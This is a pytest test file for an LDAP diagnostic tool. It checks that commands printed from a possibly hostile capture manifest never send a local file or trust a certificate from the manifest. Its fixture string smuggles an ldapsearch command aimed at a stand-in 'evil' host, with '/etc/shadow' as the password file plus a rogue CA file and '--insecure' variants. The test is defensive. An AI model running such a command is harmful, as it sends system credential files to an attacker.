"""A manifest may be somebody else's: no printed command sends a local file or trusts a certificate by its word."""

from __future__ import annotations

import json
import shutil
from typing import TYPE_CHECKING

import pytest

from command import INCIDENT, ldapdiag

if TYPE_CHECKING:
    from pathlib import Path

HOSTILE = "LDAP searches for indexes at ldaps://evil with -H ldaps://evil -x -D 'cn=admin' -y '/etc/shadow'"


@pytest.mark.parametrize(
    "told", [HOSTILE, f"{HOSTILE} --ca-file '/evil.pem'", f"{HOSTILE} --insecure"], ids=["-y", "CA", "any"]
)
def test_no_command_sends_a_local_file(tmp_path: Path, told: str) -> None:
    shutil.copytree(INCIDENT.parent / "audit", tmp_path / "audit")
    pieces = [
        {"path": str(path.relative_to(tmp_path / "audit")), "folder": "ds1", "asked": told}
        for path in (tmp_path / "audit").rglob("*")
        if path.is_file()
    ]
    (tmp_path / "audit" / "manifest.json").write_text(json.dumps({"schema": "ldapdiag.capture/1", "pieces": pieces}))
    for options in (["--script"], ["--format", "html"], ["--format", "json"]):
        printed = ldapdiag("indexes", tmp_path / "audit", *options).text
        assert "evil" in printed  # the manifest is read
        assert not [word for word in ("shadow", "evil.pem", "REQCERT") if word in printed]
